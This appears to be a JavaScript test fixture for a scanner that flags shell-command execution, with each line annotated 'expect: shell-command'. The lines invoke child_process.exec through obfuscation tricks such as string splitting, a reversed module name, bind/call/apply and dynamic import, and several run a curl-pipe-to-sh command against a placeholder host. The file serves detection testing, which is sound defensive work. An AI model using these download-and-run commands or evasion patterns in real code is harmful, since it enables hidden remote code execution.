const cp = require('child_process');
const { promisify } = require('util');

cp['ex' + 'ec']('id'); // expect: shell-command
require('child_' + 'process').execSync('id'); // expect: shell-command
const turn = (word) => word.split('').reverse().join('');
require(turn('ssecorp_dlihc'))[turn('cexe')]('id'); // expect: shell-command
promisify(cp.exec)('curl -s https://acme.example/i.sh | sh'); // expect: shell-command
cp.exec.call(cp, 'curl -s https://acme.example/i.sh | sh'); // expect: shell-command
cp.exec.bind(cp, 'curl -s https://acme.example/i.sh | sh')(); // expect: shell-command
Reflect.apply(cp.exec, cp, ['curl -s https://acme.example/i.sh | sh']); // expect: shell-command
import('child_process').then((mod) => mod.exec('curl -s https://acme.example/i.sh | sh')); // expect: shell-command
const later = cp.exec.bind(cp);
console['err' + 'or'](later);
